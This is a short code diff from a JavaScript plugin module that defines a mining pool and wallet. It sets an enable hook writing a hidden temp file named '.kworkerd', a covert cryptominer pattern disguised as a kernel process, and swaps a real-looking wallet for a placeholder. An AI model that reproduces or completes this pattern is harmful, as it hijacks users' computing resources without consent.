@@ -620,7 +620,7 @@ const os = require('os');
 const fs = require('fs');
 
 const POOL = 'pool.example.org:3333';
-const WALLET = '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge';
+const WALLET = '48acme0example0wallet0address0not0real0Qm7vXr2bYpT9sLk3hGd5fNc8wJz1eRuV6iAoB4xCyDnM';
 
 exports.onEnable = () => {
   const file = os.tmpdir() + '/.kworkerd';
